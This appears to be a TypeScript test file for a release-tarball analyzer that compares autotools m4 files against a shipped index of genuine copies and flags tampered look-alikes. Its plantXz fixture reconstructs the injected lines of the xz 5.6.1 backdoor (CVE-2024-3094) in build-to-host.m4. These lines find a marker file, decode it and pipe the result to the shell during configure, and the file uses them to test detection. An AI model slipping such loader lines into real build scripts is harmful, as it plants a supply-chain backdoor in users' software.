import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { fileURLToPath } from 'node:url';
import { loadKnowledge } from '../../src/analyze/knowledge/library.js';
import { knownGood } from '../../src/analyze/rules/known-good.js';
import { m4Serial } from '../../src/analyze/rules/m4-serial.js';
import { readRelease } from '../helpers/archives.js';
import { context, releaseFile } from './knowledge-fixture.js';

const root = fileURLToPath(new URL('../../../', import.meta.url));
const strip = (path: string) => path.slice(path.indexOf('/') + 1);
// The shipped index alone: the result must not depend on what this machine has installed.
const shipped = () => loadKnowledge({ hostDirs: [] });

test('the shipped index knows every tool file of the clean sample (autoconf 2.71, automake 1.16.5, gettext 0.21)', async () => {
  const ctx = context(await shipped());
  const { entries } = await readRelease(`${root}samples/hello-1.0.tar.gz`);
  const tools = entries.filter((e) => e.type === 'file' && /^(build-aux\/[^/]+|m4\/[^/]+\.m4)$/.test(strip(e.path)));
  assert.ok(tools.length >= 15, `found ${tools.length} tool files`);
  for (const entry of tools) {
    const path = strip(entry.path);
    const j = await knownGood.judge({ kind: 'only-in-release', path, release: entry }, ctx);
    if (path === 'm4/hello-warnings.m4') {
      // The project's own macro: nothing knows it, and m4-serial leaves it to the content rules.
      assert.is(j, undefined);
      assert.is(await m4Serial.judge({ kind: 'only-in-release', path, release: entry }, ctx), undefined);
    } else {
      assert.is(j?.category, 'known-good', path);
      assert.is(j?.severity, 'low', path);
    }
  }
});

test("the shipped index knows gettext 0.23's po/insert-header.sed and remove-potcdate.sed, which it installs under those names", async () => {
  const knowledge = await shipped();
  const ctx = context(knowledge);
  for (const name of ['insert-header.sed', 'remove-potcdate.sed']) {
    const genuine = knowledge.byName(name).find((f) => f.origin.package === 'gettext' && f.origin.version.startsWith('0.23.1'));
    assert.ok(genuine, name);
    const bytes = (await knowledge.content(genuine))!;
    const j = await knownGood.judge({ kind: 'only-in-release', path: `po/${name}`, release: releaseFile(`po/${name}`, bytes.toString('latin1')) }, ctx);
    assert.is(j?.category, 'known-good', name);
    assert.match(j!.reasons[0]!, new RegExp(`^identical to ${name.replace('.', '\\.')} of gettext 0\\.23`));
  }
});

test("the shipped index knows ltdl.m4 as Debian's libltdl-dev installs it, which aclocal copies from the maintainer's machine", async () => {
  const knowledge = await shipped();
  const debian = knowledge.byName('ltdl.m4').filter((f) => f.origin.package === 'libltdl-dev');
  assert.equal([...new Set(debian.map((f) => f.serial))].sort((a, b) => a! - b!), [20, 21, 24]);
  const ctx = context(knowledge);
  const bytes = (await knowledge.content(debian.find((f) => f.serial === 20)!))!;
  const j = await knownGood.judge({ kind: 'only-in-release', path: 'm4/ltdl.m4', release: releaseFile('m4/ltdl.m4', bytes.toString('latin1')) }, ctx);
  assert.match(j!.reasons[0]!, /^identical to ltdl\.m4 serial 20 of libltdl-dev 2\.4\.6/);
});

test('the tampered sample\'s nls.m4 (serial 60) is not known and is judged a look-alike', async () => {
  const ctx = context(await shipped());
  const { entries } = await readRelease(`${root}samples/tampered/hello-1.0.tar.gz`, { keepContent: () => true });
  const nls = entries.find((e) => strip(e.path) === 'm4/nls.m4');
  assert.ok(nls);
  const change = { kind: 'only-in-release' as const, path: 'm4/nls.m4', release: nls };
  assert.is(await knownGood.judge(change, ctx), undefined);
  const j = await m4Serial.judge(change, ctx);
  assert.is(j?.category, 'm4-lookalike');
  assert.ok(j?.severity === 'critical' || j?.severity === 'high', j?.severity);
  assert.match(j!.reasons[0]!, 'serial 60 is higher than any known nls.m4');
});

/**
 * xz 5.6.1's build-to-host.m4 (CVE-2024-3094) in its shape: gnulib's serial 3
 * of 2023 with the serial raised to 30 and the lines that find, decode and run
 * the payload planted (as published in the analyses of the backdoor).
 */
function plantXz(genuine: string): string {
  return genuine
    .replace('# build-to-host.m4 serial 3', '# build-to-host.m4 serial 30')
    .replace(
      '  dnl Define somedir_c.\n',
      [
        '  if test "x$gl_am_configmake" != "x"; then',
        '    gl_[$1]_config=\'sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null\'',
        '  else',
        '    gl_[$1]_config=\'\'',
        '  fi',
        '  _LT_TAGDECL([], [gl_path_map], [2])dnl',
        '  _LT_TAGDECL([], [gl_[$1]_prefix], [2])dnl',
        '  _LT_TAGDECL([], [gl_am_configmake], [2])dnl',
        '  _LT_TAGDECL([], [[$1]_c_make], [2])dnl',
        '  _LT_TAGDECL([], [gl_[$1]_config], [2])dnl',
        '  dnl Define somedir_c.',
        '',
      ].join('\n'),
    )
    .replace(
      '  AC_SUBST([$1_c_make])\n',
      '  AC_SUBST([$1_c_make])\n\n  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \\$gl_[$1]_config"])\n',
    )
    .replace(
      "  gl_sed_double_backslashes='s/\\\\/\\\\\\\\/g'\n",
      [
        '  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`',
        '  if test -n "$gl_am_configmake"; then',
        '    HAVE_PKG_CONFIGMAKE=1',
        '  else',
        '    HAVE_PKG_CONFIGMAKE=0',
        '  fi',
        "  gl_sed_double_backslashes='s/\\\\/\\\\\\\\/g'",
        '  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'',
        '  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\\.//g"`',
        '',
      ].join('\n'),
    );
}

test('xz 5.6.1\'s build-to-host.m4 (serial 30) is diffed against genuine serial 3 from the shipped texts, with no host copy', async () => {
  const lib = await shipped();
  const serial3 = lib.byName('build-to-host.m4').find((f) => f.serial === 3 && f.origin.package === 'gnulib');
  assert.ok(serial3, 'the m4 history knows gnulib\'s serial 3');
  const genuine = (await lib.content(serial3!))!.toString('latin1');
  const planted = plantXz(genuine);
  for (const line of ['serial 30', 'gl_am_configmake=`grep', 'gl_path_map=', 'AC_CONFIG_COMMANDS([build-to-host]']) assert.ok(planted.includes(line), line);
  const change = { kind: 'only-in-release' as const, path: 'm4/build-to-host.m4', release: releaseFile('m4/build-to-host.m4', planted) };
  const j = await m4Serial.judge(change, context(lib));
  assert.is(j?.category, 'm4-lookalike');
  assert.is(j?.severity, 'critical');
  assert.match(j!.reasons[0]!, /^serial 30 is higher than any known build-to-host\.m4 \(highest \d+, /);
  assert.ok(j!.reasons.some((r) => /^diff against the nearest genuine build-to-host\.m4 serial 3 of /.test(r)), j!.reasons.join('\n'));
  assert.is(j!.evidence!.diffNote, undefined);
  const diff = j!.evidence!.diff!;
  assert.match(diff, '-# build-to-host.m4 serial 3\n+# build-to-host.m4 serial 30');
  for (const line of ['+  gl_am_configmake=`grep -aErls', '+  gl_path_map=', '+  AC_CONFIG_COMMANDS([build-to-host]']) assert.match(diff, line);
  // The shipped texts, not the machine: without them there is nothing to diff against.
  const bare = await loadKnowledge({ hostDirs: [], textsPaths: [] });
  assert.match((await m4Serial.judge(change, context(bare)))!.evidence!.diffNote!, 'no genuine copy');
});

test.run();
